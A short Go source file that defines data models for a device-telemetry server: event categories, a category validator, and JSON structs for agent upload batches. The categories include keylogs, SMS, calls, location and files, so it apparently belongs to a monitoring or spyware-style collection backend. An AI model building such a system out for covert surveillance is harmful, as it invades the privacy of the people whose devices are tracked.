package models

import "time"

// Telemetry categories. One append-only stream per category per device.
const (
	CategoryLocation     = "location"
	CategorySMS          = "sms"
	CategoryCall         = "call"
	CategoryNotification = "notification"
	CategoryKeylog       = "keylog"
	CategoryFile         = "file"
)

// Categories lists every valid telemetry category.
var Categories = []string{
	CategoryLocation,
	CategorySMS,
	CategoryCall,
	CategoryNotification,
	CategoryKeylog,
	CategoryFile,
}

// ValidCategory reports whether c names a known telemetry category.
func ValidCategory(c string) bool {
	for _, known := range Categories {
		if c == known {
			return true
		}
	}
	return false
}

// TelemetryEvent is an immutable observation reported by a device.
// Timestamp is the device clock at capture time, not server receipt
// time; events arrive batched and possibly out of order.
type TelemetryEvent struct {
	ID        int64          `json:"id"`
	DeviceID  string         `json:"device_id"`
	Category  string         `json:"category"`
	Timestamp time.Time      `json:"timestamp"`
	Payload   map[string]any `json:"payload"`
}

// IncomingEvent is one entry of an agent upload batch.
type IncomingEvent struct {
	Timestamp time.Time      `json:"timestamp"`
	Payload   map[string]any `json:"payload"`
}

// TelemetryBatch is the agent upload body for one category.
type TelemetryBatch struct {
	Events []IncomingEvent `json:"events"`
}
